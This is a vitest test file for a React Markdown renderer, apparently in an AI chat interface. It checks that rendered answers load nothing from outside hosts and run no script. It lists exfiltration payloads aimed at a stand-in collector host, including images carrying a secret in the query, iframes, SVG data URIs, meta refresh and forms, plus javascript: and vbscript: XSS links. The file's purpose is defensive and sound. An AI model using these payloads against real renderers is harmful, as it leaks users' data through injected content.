import { describe, expect, test, vi } from "vitest";
import { renderPart } from "../testing/page";
import { safeImage, safeLink } from "./links.logic";
import { Markdown } from "./Markdown";

const STRANGER = "collect.example.net";

const LEAKS = [
  ["an image", `![x](https://${STRANGER}/p.png?d=SECRET-42)`],
  ["an image by reference", `![x][1]\n\n[1]: https://${STRANGER}/p.png?d=SECRET-42`],
  ["an image in HTML", `<img src="https://${STRANGER}/p.png?d=SECRET-42">`],
  ["an image in an HTML block", `<div>\n<img src="https://${STRANGER}/p.png">\n</div>`],
  ["an image without a scheme", `![x](//${STRANGER}/p)`],
  ["an image behind user information", `![x](https://app.example@${STRANGER}/p)`],
  [
    "an SVG in a data address",
    `![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='https://${STRANGER}/p'/%3E%3C/svg%3E)`,
  ],
  ["a bare link", `see https://${STRANGER}/p?d=SECRET-42`],
  ["a stylesheet", `<link rel="stylesheet" href="https://${STRANGER}/a.css"><style>@import url(https://${STRANGER}/b.css);</style>`],
  ["a frame", `<iframe src="https://${STRANGER}/"></iframe>`],
  ["a video", `<video src="https://${STRANGER}/v" poster="https://${STRANGER}/p"></video>`],
  ["an object", `<object data="https://${STRANGER}/o"></object><embed src="https://${STRANGER}/e">`],
  ["a background", `<p style="background:url(https://${STRANGER}/p)">x</p>`],
  ["a source set", `<img srcset="https://${STRANGER}/p 2x">`],
  ["a prefetch", `<link rel="prefetch" href="https://${STRANGER}/p"><link rel="dns-prefetch" href="//${STRANGER}">`],
  ["a script", `<script src="https://${STRANGER}/x.js"></script>`],
  ["a meta refresh", `<meta http-equiv="refresh" content="0;url=https://${STRANGER}/">`],
  ["an SVG in HTML", `<svg><image href="https://${STRANGER}/p"/><use href="https://${STRANGER}/s#a"/></svg>`],
  ["a form", `<form action="https://${STRANGER}/"><input type="image" src="https://${STRANGER}/p"></form>`],
  ["an artifact's look-alike", `![x](/v1/artifacts/../../p)`],
  ["a diagram", `\`\`\`mermaid\ngraph TD; A[<img src='https://${STRANGER}/p'>]-->B\n\`\`\``],
] as const;

/** Elements that fetch something, or act, without a click. */
const ACTIVE =
  "img, image, use, svg:not(.lucide), iframe, frame, object, embed, video, audio, source, track, link, style, script, meta, form, base, input:not([type=checkbox]), [style*=url], [srcset], [poster], [background], [ping]";

describe.each([
  ["live", true],
  ["from history", false],
])("an answer %s", (_, live) => {
  test.each(LEAKS)("with %s makes the browser fetch nothing", (_name, text) => {
    const { container } = renderPart(<Markdown text={text} live={live} />);
    expect([...container.querySelectorAll(ACTIVE)].map((element) => element.outerHTML)).toEqual([]);
    expect(container.textContent).not.toBe("");
  });

  test("runs no script and keeps no handler", () => {
    const { container } = renderPart(
      <Markdown
        live={live}
        text={'<b onclick="alert(1)">bold</b> <a href="javascript:alert(1)">x</a> [y](javascript:alert(1)) [z](data:text/html,x)'}
      />,
    );
    expect(container.querySelector("b, a")).toBeNull();
    expect(container.innerHTML).not.toMatch(/<[^>]*\sonclick/);
  });

  test("links open elsewhere and give nothing away", () => {
    const { container } = renderPart(<Markdown live={live} text={`[text](https://${STRANGER}/p)`} />);
    const link = container.querySelector("a");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("referrerpolicy")).toBe("no-referrer");
    expect(link?.getAttribute("title")).toBe(STRANGER);
  });

  test("an artifact of this server is shown", () => {
    const path = "/v1/artifacts/art_01JZZZZZZZZZZZZZZZZZZZZZZZ/content";
    const { container } = renderPart(<Markdown live={live} text={`![plot](${path})`} />);
    expect(container.querySelector("img")?.getAttribute("src")).toBe(path);
  });

  test("controls and direction overrides are spelled out", () => {
    const { container } = renderPart(<Markdown live={live} text={"a\u202eb\u0007c"} />);
    expect(container.textContent).toBe("a\\u{202e}b\\u{7}c");
  });

  test("headings stand below those of the page, and tables and code are what they are", () => {
    const { container } = renderPart(<Markdown live={live} text={"# One\n\n| a |\n|---|\n| b |\n\n```js\nlet x;\n```\n"} />);
    expect(container.querySelector("h3")?.textContent).toBe("One");
    expect(container.querySelector("td")?.textContent).toBe("b");
    expect(container.querySelector("figure.code pre code")?.textContent).toBe("let x;");
  });
});

test("drawing an answer asks the network for nothing", () => {
  const fetched = vi.spyOn(globalThis, "fetch");
  renderPart(<Markdown live={false} text={LEAKS.map(([, text]) => text).join("\n\n")} />);
  expect(fetched).not.toHaveBeenCalled();
});

test.each([
  ["https://a.example/", "https://a.example/"],
  ["mailto:a@b.example", "mailto:a@b.example"],
  ["javascript:alert(1)", null],
  [" javascript:alert(1)", null],
  ["data:text/html,x", null],
  ["vbscript:x", null],
  ["blob:https://a/b", null],
  ["/v1/session", null],
  ["//a.example/", null],
  ["/v1/artifacts/art_01JZZZZZZZZZZZZZZZZZZZZZZZ/content", "/v1/artifacts/art_01JZZZZZZZZZZZZZZZZZZZZZZZ/content"],
  [undefined, null],
])("the link %s leads to %s", (href, target) => {
  expect(safeLink(href)).toBe(target);
});

test.each([
  "https://a.example/p",
  "data:image/png;base64,AA",
  "blob:x",
  "/p.png",
  "/v1/artifacts/art_1/content",
  "/v1/artifacts/art_01JZZZZZZZZZZZZZZZZZZZZZZZ/content?x=1",
])("the image %s is not loaded", (src) => {
  expect(safeImage(src)).toBeNull();
});
